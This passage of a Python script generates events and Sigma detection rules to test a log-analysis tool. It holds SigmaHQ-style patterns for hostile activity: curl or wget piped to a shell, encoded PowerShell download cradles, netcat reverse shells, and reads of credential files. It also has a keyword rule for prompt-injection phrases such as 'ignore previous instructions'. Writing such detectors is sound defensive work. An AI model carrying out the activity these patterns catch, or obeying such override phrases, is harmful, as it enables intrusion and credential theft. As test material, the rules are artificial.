        return {f: sigma_escape(v) if isinstance(v, str) else v}

    templates = [
        "sel1 and sel2", "sel1 or sel2", "sel1 and not sel2", "not sel1", "not (sel1 or sel2)", "(sel1 or sel2) and not filter",
        "1 of sel*", "all of sel*", "1 of them", "all of them", "1 of sel* and not 1 of filter*", "sel1 and (sel2 or not sel3)",
        "not sel1 and not sel2", "sel1 or sel2 and sel3", "not sel1 or sel2", "all of sel* or filter", "(sel1 and sel2) or (sel3 and not filter)",
        "sel1 and not (sel2 and sel3)", "1 of them and not filter", "any of sel*",
    ]
    for i in range(34):
        ev = rng.choice(events)
        other = rng.choice(events)
        tpl = templates[i % len(templates)]
        det = {}
        for name in ["sel1", "sel2", "sel3"]:
            if name in tpl or "sel*" in tpl or "them" in tpl:
                src = ev if rng.random() < 0.7 else other
                det[name] = sel_from(src)
        if "filter" in tpl or "them" in tpl:
            det["filter"] = sel_from(other if rng.random() < 0.5 else ev)
        if "them" in tpl:
            det["_hidden"] = {"event.id": "00000000000000000000000000000000"}
        det["condition"] = tpl
        R.add("condition", f"Condition {tpl} #{i}", det, logsource_for(ev))
    # A list of conditions (OR), lists of maps, a map of lists.
    ev = rng.choice(events)
    R.add("condition", "Condition list", {"a": sel_from(ev), "b": sel_from(rng.choice(events)), "condition": ["a", "b"]}, logsource_for(ev))
    for i in range(6):
        ev = rng.choice(events)
        maps = [sel_from(ev), sel_from(rng.choice(events)), sel_from(ev)]
        R.add("listofmaps", f"List of maps #{i}", {"sel": maps, "condition": "sel"}, logsource_for(ev))
    for i in range(4):
        ev = rng.choice(events)
        a, b = sel_from(ev), sel_from(rng.choice(events))
        merged = {**a, **b}
        R.add("map", f"Map of two fields #{i}", {"sel": merged, "condition": "sel"}, logsource_for(ev))


SIGMAHQ_STYLE = [
    # (title, logsource, detection): SigmaHQ rules with their Windows/web field names translated to ours.
    ("Curl or wget piped into a shell", {"product": "ray"},
     {"dl": {"process.command_line|contains": ["curl ", "wget "]}, "pipe": {"process.command_line|re": r"\|\s*(ba)?sh\b"}, "condition": "dl and pipe"}),
    ("Base64 decoded and executed", {"product": "ray"},
     {"sel": {"process.command_line|contains|all": ["base64", "-d"]}, "shell": {"process.command_line|endswith": ["| sh", "| bash"]}, "condition": "sel and shell"}),
    ("Encoded PowerShell command line", {"product": "ray"},
     {"sel": {"process.command_line|contains": ["powershell", "pwsh"]}, "enc": {"process.command_line|windash|contains": [" -enc ", " -encodedcommand "]}, "condition": "sel and enc"}),
    ("PowerShell download cradle, encoded", {"product": "ray"},
     {"sel": {"process.command_line|wide|base64offset|contains": ["IEX", "DownloadString", "Net.WebClient"]}, "condition": "sel"}),
    ("Netcat reverse shell", {"product": "ray"},
     {"sel": {"process.command_line|re|i": r"\bnc(at)?\b.*\s-e\s"}, "condition": "sel"}),
    ("Crypto miner download", {"product": "mesos"},
     {"sel": {"url.original|contains": ["xmrig", "minerd", "cpuminer"]}, "kw": ["stratum+tcp", "xmrig"], "condition": "sel or kw"}),
    ("Credential file access", {"product": "ray"},
     {"sel": {"process.command_line|contains": ["/etc/shadow", "/.aws/credentials", "id_rsa", "/etc/passwd"]}, "condition": "sel"}),
    ("Scanner user agents", {"category": "webserver"},
     {"sel": {"user_agent.original|contains": ["sqlmap", "nikto", "nmap", "masscan", "zgrab", "python-requests", "curl/"]}, "condition": "sel"}),
    ("Path traversal in URL", {"category": "webserver"},
     {"sel": {"url.original|contains": ["../", "..%2f", "%2e%2e"]}, "sel2": {"url.path|contains": ["../", "/etc/passwd"]}, "condition": "1 of sel*"}),
    ("Web access denied burst source", {"category": "webserver"},
     {"sel": {"http.response.status_code": [401, 403]}, "filter_local": {"source.ip|cidr": ["127.0.0.0/8", "::1/128"]}, "condition": "sel and not filter_local"}),
    ("Authentication failure", {"category": "authentication"},
     {"sel": {"event.action": ["authentication-failed", "sasl-authentication-failed"]}, "condition": "sel"}),
    ("Privileged role granted", {"product": "milvus"},
     {"sel": {"event.action": ["privilege-granted", "user-role-changed", "privilege-changed"]}, "condition": "sel"}),
    ("Collection dropped", {"product": "milvus"},
     {"sel": {"event.action": "collection-deleted"}, "filter": {"user.name": ["root", None]}, "condition": "sel and not filter"}),
    ("Milvus unauthenticated access", {"product": "milvus", "service": "access"},
     {"sel": {"milvus.status|contains": ["Unauthenticated", "PermissionDenied"]}, "sel2": {"error.type": "Unauthenticated"}, "condition": "1 of sel*"}),
    ("Mesos task running as root", {"product": "mesos"},
     {"sel": {"mesos.task.user": "root"}, "condition": "sel"}),
    ("Mesos framework with suspicious name", {"product": "mesos"},
     {"sel": {"mesos.framework.name|re|i": "(miner|xmr|kworker)"}, "sel2": {"mesos.task.id|startswith": ["kworker", "xmr"]}, "condition": "1 of sel*"}),
    ("Ray job entrypoint runs interpreter one-liner", {"product": "ray", "service": "job_api"},
     {"sel": {"process.command_line|re": r"python[0-9.]* -c "}, "condition": "sel"}),
    ("Ray OOM kill", {"product": "ray"},
     {"sel": {"event.action": "oom-kill"}, "kw": ["OutOfMemoryError", "killed due to memory"], "condition": "sel or kw"}),
    ("MLX model loaded with pickle", {"product": "mlx"},
     {"sel": {"event.action": "model-loaded"}, "pk": {"mlx.model.pickle_allowed": True}, "condition": "sel and pk"}),
    ("MLX inference failure burst member", {"product": "mlx"},
     {"sel": {"event.action": "inference-failed"}, "condition": "sel"}),
    ("MLX prompt with injection phrases", {"product": "mlx"},
     {"kw": ["ignore previous instructions", "system prompt", "jailbreak"], "condition": "kw"}),
    ("Requests from public addresses", {"product": "mlx"},
     {"sel": {"source.ip|exists": True}, "private": {"source.ip|cidr": ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8"]}, "condition": "sel and not private"}),
    ("HTTP server errors", {"category": "webserver"},
     {"sel": {"http.response.status_code|gte": 500}, "condition": "sel"}),
    ("Large responses", {"product": "ray"},
     {"sel": {"http.response.body.bytes|gt": 100000}, "condition": "sel"}),
]


def gen_sigmahq_style(R):
    for title, ls, det in SIGMAHQ_STYLE:
        R.add("sigmahq", title, det, ls, extra={"tags": ["attack.execution"], "falsepositives": ["Administrators"]})


def gen_correlations(R):
    """Correlation rules with the detection rules they use, one file per correlation."""
    def base(name, title, det, ls=None):
        return {"title": title, "id": uid(), "name": name, "status": "test", "logsource": ls or {"product": "ray"},
                "detection": det, "level": "low"}

    def corr(title, body, name=None):
        d = {"title": title, "id": uid()}
        if name:
            d["name"] = name
        d["status"] = "test"
        d["correlation"] = body
        d["level"] = "high"
        return d

    fail = base("dash_auth_failed", "Ray dashboard authentication failed",
                {"sel": {"event.action": "authentication-failed", "http.response.status_code": 401}, "condition": "sel"},
                {"product": "ray", "service": "dashboard"})
    submit = base("job_submitted", "Ray job submitted", {"sel": {"event.action": "job-submitted"}, "condition": "sel"})
    run = base("job_process_started", "Ray job process started",
               {"sel": {"event.action": "process-started", "process.command_line|contains": "curl"}, "condition": "sel"})
    R.add_doc("corr_000_base.yml", fail)
    R.add_doc("corr_000_base.yml", submit)
    R.add_doc("corr_000_base.yml", run)
    cases = [
        ("Brute force per source", {"type": "event_count", "rules": ["dash_auth_failed"], "group-by": ["source.ip"], "timespan": "5m", "condition": {"gte": 3}}),
        ("Brute force per source, 10m", {"type": "event_count", "rules": ["dash_auth_failed"], "group-by": ["source.ip"], "timespan": "10m", "condition": {"gte": 3}}),
        ("Brute force per source and user", {"type": "event_count", "rules": ["dash_auth_failed"], "group-by": ["source.ip", "user.name"], "timespan": "5m", "condition": {"gt": 2}}),
        ("Brute force, no group", {"type": "event_count", "rules": ["dash_auth_failed"], "timespan": "1m", "condition": {"gte": 5}}),
        ("Brute force range", {"type": "event_count", "rules": ["dash_auth_failed"], "group-by": ["source.ip"], "timespan": "5m", "condition": {"gte": 4, "lte": 6}}),
        ("Failures per host", {"type": "event_count", "rules": ["dash_auth_failed"], "group-by": ["host.name"], "timespan": "1m", "condition": {"gte": 2}}),
        ("Failures per user", {"type": "event_count", "rules": ["dash_auth_failed"], "group-by": ["user.name"], "timespan": "2m", "condition": {"gte": 2}}),
        ("Password spray", {"type": "value_count", "rules": ["dash_auth_failed"], "group-by": ["source.ip"], "timespan": "10m", "condition": {"field": "user.name", "gte": 4}}),
        ("Password spray, few users", {"type": "value_count", "rules": ["dash_auth_failed"], "group-by": ["source.ip"], "timespan": "10m", "condition": {"field": "user.name", "gt": 5}}),
        ("Submit then run", {"type": "temporal", "rules": ["job_submitted", "job_process_started"], "group-by": ["source.ip"], "timespan": "2m"}),
        ("Submit then run, ordered", {"type": "temporal_ordered", "rules": ["job_submitted", "job_process_started"], "group-by": ["source.ip"], "timespan": "2m"}),
        ("Run then submit, ordered", {"type": "temporal_ordered", "rules": ["job_process_started", "job_submitted"], "group-by": ["source.ip"], "timespan": "2m"}),
        ("Submit then run within 20m", {"type": "temporal", "rules": ["job_submitted", "job_process_started"], "group-by": ["source.ip"], "timespan": "20m"}),
        ("Submit and failure, temporal", {"type": "temporal", "rules": ["job_submitted", "dash_auth_failed"], "group-by": ["source.ip"], "timespan": "1h"}),
    ]
    for i, (title, body) in enumerate(cases):
        R.add_doc(f"corr_{i + 1:03d}.yml", corr(title, body))
    # Real-corpus correlations (bursts in the sampled chunks).
    real = [
        (base("mesos_offer_removed", "Mesos offer removed", {"sel": {"event.action": "offer-removed"}, "condition": "sel"}, {"product": "mesos"}),
         {"type": "event_count", "rules": ["mesos_offer_removed"], "group-by": ["mesos.framework.id"], "timespan": "1m", "condition": {"gte": 5}}),
        (base("milvus_search", "Milvus search", {"sel": {"event.action": "data-searched"}, "condition": "sel"}, {"product": "milvus"}),
         {"type": "value_count", "rules": ["milvus_search"], "group-by": ["user.name"], "timespan": "1h", "condition": {"field": "milvus.collection", "gte": 2}}),
        (base("mlx_request", "MLX HTTP request", {"sel": {"event.action": "http-request"}, "condition": "sel"}, {"product": "mlx"}),
         {"type": "event_count", "rules": ["mlx_request"], "group-by": ["source.ip"], "timespan": "30s", "condition": {"gte": 3}}),
        (base("mesos_http", "Mesos HTTP request", {"sel": {"event.action": "http-request"}, "condition": "sel"}, {"product": "mesos"}),
         {"type": "value_count", "rules": ["mesos_http"], "group-by": ["source.ip"], "timespan": "5m", "condition": {"field": "url.path", "gte": 2}}),
        (base("ray_task_event", "Ray task state change", {"sel": {"event.action": ["task-state-changed", "task-finished"]}, "condition": "sel"}),
         {"type": "event_count", "rules": ["ray_task_event"], "group-by": ["ray.job.id"], "timespan": "10m", "condition": {"gte": 2}}),
    ]
    for i, (b, body) in enumerate(real):
        R.add_doc(f"corr_real_{i:03d}.yml", b)
        R.add_doc(f"corr_real_{i:03d}.yml", corr(f"Real burst {b['title']}", body))
    # Temporal across two real rules of one system.
    t1 = base("mesos_task_launched", "Mesos task launched", {"sel": {"event.action": "task-launched"}, "condition": "sel"}, {"product": "mesos"})
    t2 = base("mesos_task_status", "Mesos task status", {"sel": {"event.action": "task-status-received"}, "condition": "sel"}, {"product": "mesos"})
    R.add_doc("corr_real_temporal.yml", t1)
    R.add_doc("corr_real_temporal.yml", t2)
    R.add_doc("corr_real_temporal.yml", corr("Mesos launch and status", {"type": "temporal", "rules": ["mesos_task_launched", "mesos_task_status"], "group-by": ["host.name"], "timespan": "1m"}))
    R.add_doc("corr_real_temporal.yml", corr("Mesos launch then status, ordered", {"type": "temporal_ordered", "rules": ["mesos_task_launched", "mesos_task_status"], "group-by": ["host.name"], "timespan": "1m"}))
    # A chain: bursts of Milvus auth failures, then several bursts within 15 minutes.
    mf = base("milvus_auth_failed", "Milvus authentication failed", {"sel": {"event.action": "authentication-failed"}, "condition": "sel"}, {"product": "milvus"})
    R.add_doc("corr_chain.yml", mf)
    R.add_doc("corr_chain.yml", corr("Milvus auth burst", {"type": "event_count", "rules": ["milvus_auth_failed"], "group-by": ["source.ip"], "timespan": "1m", "condition": {"gte": 3}}, name="milvus_auth_burst"))
    R.add_doc("corr_chain.yml", corr("Milvus repeated auth bursts", {"type": "event_count", "rules": ["milvus_auth_burst"], "group-by": ["source.ip"], "timespan": "15m", "condition": {"gte": 2}}))
    # Aliases: the same address as source of a failure and of a submission.
    R.add_doc("corr_alias.yml", corr("Failure then submission, aliased", {
        "type": "temporal", "rules": ["dash_auth_failed", "job_submitted"], "group-by": ["addr"], "timespan": "6h",
        "aliases": {"addr": {"dash_auth_failed": "source.ip", "job_submitted": "source.ip"}}}))


def gen_filters(R):
    base = {"title": "Filtered rule: Milvus authentication failures", "id": uid(), "name": "filtered_milvus_auth", "status": "test",
            "logsource": {"product": "milvus"}, "detection": {"sel": {"event.action": "authentication-failed"}, "condition": "sel"}, "level": "low"}
    flt = {"title": "Filter: ignore the crafted chain address", "id": uid(), "logsource": {"product": "milvus"},
           "filter": {"rules": ["filtered_milvus_auth"], "sel": {"source.ip": "10.9.2.1"}, "condition": "not sel"}}
    R.add_doc("filter_000.yml", base)
    R.add_doc("filter_000.yml", flt)
    base2 = {"title": "Filtered rule: MLX inference failures", "id": uid(), "name": "filtered_mlx_fail", "status": "test",
             "logsource": {"product": "mlx"}, "detection": {"sel": {"event.action": "inference-failed"}, "condition": "sel"}, "level": "low"}
    flt2 = {"title": "Filter: only internal clients", "id": uid(), "logsource": {"product": "mlx"},
            "filter": {"rules": ["filtered_mlx_fail"], "sel": {"source.ip|cidr": "10.0.0.0/8"}, "condition": "sel"}}
    R.add_doc("filter_001.yml", base2)
    R.add_doc("filter_001.yml", flt2)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--corpus", default="/work/shared/corpus")
    ap.add_argument("--sightline", default=str(REPO / "target/release/sightline"))
    args = ap.parse_args()
    sample = []
    for system in SYSTEMS:
        sample += sample_system(parse_corpus(args.corpus, args.sightline, system))
    craft = crafted_events()
    events = sample + craft
    with open(HERE / "events.jsonl", "w", encoding="utf-8") as f:
        for ev in events:
            f.write(json.dumps(ev, ensure_ascii=False, separators=(",", ":")) + "\n")
    R = Rules()
    gen_modifier_rules(R, sample, craft)
    gen_keyword_rules(R, sample)
    gen_condition_rules(R, sample + craft)
    gen_sigmahq_style(R)
    gen_correlations(R)
    gen_filters(R)
    n = R.write(HERE / "rules" / "generated")
    size = (HERE / "events.jsonl").stat().st_size
    print(f"{len(sample)} sampled + {len(craft)} crafted events ({size / 1e6:.2f} MB), {n} rule documents", file=sys.stderr)


if __name__ == "__main__":
    main()
